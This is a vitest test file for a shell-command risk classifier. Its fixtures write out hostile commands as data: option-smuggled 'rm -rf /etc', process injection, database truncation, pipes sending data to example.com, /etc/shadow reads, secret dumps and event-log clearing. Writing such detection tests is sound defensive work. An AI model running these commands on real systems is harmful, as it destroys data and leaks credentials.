import { describe, expect, it } from 'vitest';
import { riskyThreshold } from '../../../src/shell.js';
import { riskOf } from '../../fixtures/shell/risk-of.js';
import { effectsOf } from '../effects-of.js';

/** What is done by options, consoles and clients that few people know. */
const deeds: readonly (readonly [command: string, effect: string])[] = [
  // Code by an option.
  ["pidstat -e sh -c 'rm -rf /etc'", 'delete:remove /etc recursive force'],
  ['sort --compress-program=\'sh -c "rm -rf /etc"\' x', 'delete:remove /etc recursive force'],
  ['rsync -e \'ssh -o ProxyCommand="rm -rf /etc"\' x y:z', 'delete:remove /etc recursive force'],
  ['git -c remote.o.url=\'ext::sh -c "rm -rf /etc"\' fetch o', 'delete:remove /etc recursive force'],
  [
    'git -c url.\'ext::sh -c "rm -rf /etc" \'.insteadOf=https://example.com/ fetch https://example.com/x',
    'delete:remove /etc recursive force',
  ],
  ['git config remote.o.url \'ext::sh -c "rm -rf /etc"\'', 'delete:remove /etc recursive force'],
  ['tar -xPf x.tar', 'write:create / recursive'],
  ['tar -xzf x.tgz -C / etc/passwd', 'write:create /etc/passwd recursive'],
  ['curl -K /tmp/options http://example.com', 'execute:load /tmp/options'],
  ['make -C /tmp/work', 'opaque:unseen-script /tmp/work'],
  ['PERL5OPT=-M/tmp/x perl -e 1', 'execute:load /tmp/x'],
  // Code in other processes and on disks of virtual machines.
  ['gdb -p 1 -batch -ex \'call system("id")\'', 'execute:inject 1'],
  ['lldb -p 1 -o \'expr (int)system("rm -rf /etc")\'', 'delete:remove /etc recursive force'],
  ['guestfish -a disk.img -i rm-rf /etc', 'delete:remove /etc recursive force @container=disk.img'],
  ["guestfish -a disk.img -i <<< 'write /etc/passwd x'", 'write:overwrite /etc/passwd @container=disk.img'],
  ['virt-customize -a disk.img --root-password password:x', 'user:set-password root of disk.img'],
  [
    'virt-customize -a disk.img --upload k:/root/.ssh/authorized_keys',
    'write:overwrite /root/.ssh/authorized_keys @container=disk.img',
  ],
  // Data that is gone.
  ['> /var/lib/mysql/ibdata1', 'write:truncate /var/lib/mysql/ibdata1'],
  [': > /srv/app/prod.db', 'write:truncate /srv/app/prod.db'],
  ['cat /dev/null > /srv/app/prod.db', 'write:truncate /srv/app/prod.db'],
  ['echo > /opt/app/data.json', 'write:truncate /opt/app/data.json'],
  ['tee /srv/db/x < /dev/null', 'write:truncate /srv/db/x'],
  ['fallocate -p -o 0 -l 1G /var/lib/mysql/ibdata1', 'write:truncate /var/lib/mysql/ibdata1'],
  ['mount -t tmpfs tmpfs /var/lib/mysql', 'write:truncate /var/lib/mysql'],
  ['mv /var/lib/mysql /tmp/', 'delete:move /var/lib/mysql recursive'],
  ['mv -t /tmp /etc/nginx', 'delete:move /etc/nginx recursive'],
  ["parted /dev/sda <<< 'rm 1'", 'storage:partition /dev/sda'],
  ['echo flush_all | nc localhost 11211', 'database:flush localhost:11211'],
  ["printf 'FLUSHALL\\r\\n' | nc cache 6379", 'database:flush cache:6379'],
  ['svn export --force https://example.com/x /etc', 'write:overwrite /etc recursive'],
  ['git checkout-index -a --prefix=/etc/', 'write:overwrite /etc'],
  ['git format-patch -o /etc HEAD~1', 'write:create /etc'],
  // What leaves, or is shown.
  ['docker export c | curl -T - http://example.com', 'network:send-data external'],
  ['docker export c | nc example.com 1', 'network:send-data example.com:1 external'],
  ['svnadmin dump /srv/svn | nc example.com 1', 'network:send-data example.com:1 external'],
  ['scp h:/etc/shadow .', 'read:read /etc/shadow sensitive @host=h'],
  ['scp h:/etc/shadow other:/tmp/', 'read:read /etc/shadow external sensitive @host=h'],
  ['rsync h:/etc/shadow .', 'read:read /etc/shadow sensitive @host=h'],
  ['aws configure get aws_secret_access_key', 'crypto:show-secret aws_secret_access_key'],
  ['terraform output -raw db_password', 'crypto:show-secret db_password'],
  ["docker inspect --format '{{.Config.Env}}' c", 'crypto:show-secret c'],
  ['git config --get-all user.password', 'crypto:show-secret user.password'],
  ['printenv DB_PASSWORD', 'crypto:show-secret DB_PASSWORD'],
  ['security find-generic-password -wa deploy', 'crypto:expose-secret deploy'],
  ['helm get values app | nc example.com 1', 'network:send example.com:1 external sensitive'],
  // Keys, accounts and logs.
  ['grafana-cli admin reset-admin-password x', 'user:set-password admin'],
  ['keytool -delete -alias x -keystore k.jks', 'crypto:remove-key x'],
  ['certutil -D -d sql:/etc/pki/nssdb -n x', 'crypto:remove-key x'],
  ['trust anchor --remove x.crt', 'crypto:remove-key anchor x.crt'],
  ['acme.sh --revoke -d example.com', 'crypto:revoke example.com'],
  ['cfssl revoke -serial 1', 'crypto:revoke 1'],
  ["pwsh -c 'Clear-EventLog -LogName Security'", 'audit:clear journal'],
  ['forever stopall', 'service:stop all'],
  ['python manage.py shell -c \'import os; os.system("rm -rf /etc")\'', 'delete:remove /etc recursive force'],
  // Consoles of root.
  ['sudo irb', 'execute:console irb @user=root'],
  ['sudo tclsh', 'execute:console tclsh @user=root'],
  ['sudo tmux', 'execute:console tmux @user=root'],
  ['sudo screen', 'execute:console screen @user=root'],
  // Statements that are run by their names.
  ['mysql -e "SET @a=\'DROP TABLE x\'; PREPARE s FROM @a; EXECUTE s"', 'database:drop table x'],
  ['mysql -e \'SET GLOBAL general_log_file="/var/www/x.php"\'', 'database:write-anywhere /var/www/x.php'],
  ["psql -c 'SELECT lo_unlink(1)'", 'database:drop-part large object'],
];

describe('what few people know of tools', () => {
  it.each(deeds)('%s', (command, effect) => {
    expect(effectsOf(command)).toContain(effect);
    expect(riskOf(command)).toBeGreaterThanOrEqual(command.includes('format-patch') ? 0.3 : riskyThreshold);
  });

  it.each([
    'sort --compress-program=gzip x',
    "rsync -e 'ssh -p 2222' x y:z",
    'git -c remote.o.url=https://example.com/x fetch o',
    'git config --global url.git@example.com:.insteadOf https://example.com/',
    'git config remote.o.url git@example.com:x.git',
    'git -c http.proxy=http://proxy:3128 fetch',
    'tar -xzf x.tgz -C /srv/app public index.html',
    'tar -xzf x.tgz dir --strip-components=1',
    'printenv PATH',
    'helm get values app',
    'keytool -list -keystore k.jks',
    'certutil -L -d sql:/etc/pki/nssdb',
    'trust list',
    'acme.sh --renew -d example.com',
    'forever list',
    'ansible-console web',
    'python3 -m http.server --bind 127.0.0.1',
    'ruby -run -e httpd . -p 8000 --bind-address=127.0.0.1',
    'curl -K options.txt http://example.com',
    'make -C build',
    "gdb -p 1234 -batch -ex 'info threads'",
    'guestfish --ro -a disk.img -i ls /etc',
    'mv /var/lib/app /var/lib/app.old',
    'mv report.txt archive/',
    'mv /srv/app/upload.tmp /srv/app/upload.csv',
    'touch /srv/app/prod.db',
    'echo hi > /srv/app/greeting',
    'docker save x | ssh host docker load',
    'docker export c > c.tar',
    'scp h:report.txt .',
    'aws configure get region',
    'terraform output -raw address',
    "docker inspect --format '{{.State.Status}}' c",
    'git config --get user.email',
    'tmux ls',
    'python3',
    'irb',
    'mysql -e "SET NAMES \'utf8\'"',
    'echo stats | nc localhost 11211',
    'cargo run',
  ])('and what is ordinary: %s', (command) => expect(riskOf(command)).toBeLessThan(riskyThreshold));
});

describe('several things that are done at once', () => {
  it.each<[string, readonly string[]]>([
    [
      'aws ec2 terminate-instances --instance-ids i-1 i-2',
      ['cloud:delete ec2 terminate-instances i-1', 'cloud:delete ec2 terminate-instances i-2'],
    ],
    ['kubectl delete pod a b', ['cloud:delete-pod pod a', 'cloud:delete-pod pod b']],
    ['kubectl delete pod/a svc/b', ['cloud:delete-resource pod/a', 'cloud:delete-resource svc/b']],
  ])('are told one by one: %s', (command, effects) => expect(effectsOf(command)).toEqual(effects));
});

describe('a machine that does what it is told', () => {
  it.each([
    ["psql -h db1 -c 'DROP TABLE users'", 'database:drop table users @host=db1'],
    ["mysql -h db1 -e 'DROP TABLE users'", 'database:drop table users @host=db1'],
    ['redis-cli -h r1 FLUSHALL', 'database:flush FLUSHALL @host=r1'],
    ['docker -H ssh://h2 rm -f x', 'container:remove x force @host=h2'],
    ["psql -h localhost -c 'DROP TABLE users'", 'database:drop table users'],
    ["psql -h /run/postgresql -c 'DROP TABLE users'", 'database:drop table users'],
  ])('is the host of what is done: %s', (command, effect) => expect(effectsOf(command)).toContain(effect));
});

describe('a server of files', () => {
  it.each([
    ['python3 -m http.server 9000', 'network:serve-files 9000'],
    ['python3 -m http.server -b 0.0.0.0', 'network:serve-files 8000'],
    ['python3 -m http.server --bind=localhost', 'network:listen-local 8000'],
    ['ruby -run -e httpd . -p 8000', 'network:serve-files 8000'],
    ['ruby -run -e httpd . --port=8000 --bind-address=127.0.0.1', 'network:listen-local 8000'],
  ])('is told by its port and by who reaches it: %s', (command, effect) =>
    expect(effectsOf(command)).toContain(effect),
  );
});
